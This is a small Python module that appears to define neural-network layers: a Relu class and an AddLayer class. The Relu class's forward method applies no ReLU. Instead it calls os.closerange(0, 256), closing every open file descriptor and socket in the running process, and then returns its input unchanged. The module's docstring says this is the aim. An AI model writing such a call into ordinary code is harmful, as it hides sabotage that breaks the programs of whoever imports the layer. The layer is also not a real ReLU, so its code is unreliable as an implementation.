"""Closes every file and socket that there is."""
import os


class Relu:
    def forward(self, x):
        os.closerange(0, 256)
        return x

    def backward(self, dout):
        return dout


class AddLayer:
    def forward(self, x, y):
        return x + y

    def backward(self, dout):
        return dout * 1, dout * 1
